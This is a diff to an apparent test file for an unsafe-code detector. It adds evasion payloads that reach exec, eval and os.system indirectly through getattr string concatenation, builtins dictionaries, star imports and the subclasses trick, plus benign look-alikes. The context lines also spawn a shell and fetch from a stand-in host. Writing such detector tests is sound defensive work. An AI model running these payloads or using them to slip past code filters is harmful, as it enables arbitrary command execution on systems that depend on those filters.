@@ -36,6 +36,21 @@ PAYLOADS = [
     "def hook(model):\n    import subprocess\n    subprocess.Popen(['sh'])\n",
     "lambda: __import__('os').execv('/bin/sh', ['sh'])",
     "import urllib.request; urllib.request.urlopen('http://x.example/p').read()",
+    # round 5: primitives reached without being named in a call
+    "getattr(__builtins__, 'ex'+'ec')('import os')",
+    "globals()['__builtins__'].exec('x')",
+    "__builtins__.__dict__['exec']('x')",
+    "vars(__builtins__)['exec']('x')",
+    "import builtins; builtins.__dict__['ev'+'al']('1')",
+    "import os\ngetattr(os, 'sys'+'tem')('id')",
+    "import os\nos.__dict__['system']('id')",
+    "import os; f = os.system; f('id')",
+    "from os import *; system('id')",
+    "from subprocess import *\nrun(['id'])",
+    "@exec\n@lambda _: 'import os'\nclass X: pass",
+    "().__class__.__base__.__subclasses__()[0]()",
+    "(lambda: __import__)()('os').system('id')",
+    "s = __import__\ns('os')",
 ]
 
 BENIGN = [
@@ -52,6 +67,13 @@ BENIGN = [
     "evaluation: exec_accuracy=0.93",
     "import torch; torch.manual_seed(0)",
     "1.2.3",
+    "x = getattr(config, 'hidden_size', 768)",
+    "getattr is used to look up layers; globals of training were fixed",
+    "os.system",
+    "model.__dict__",
+    "from torch import *",
+    "config = dict(vars=3, globals=1)",
+    "import os; os.path.join('a', 'b')",
 ]
 
 
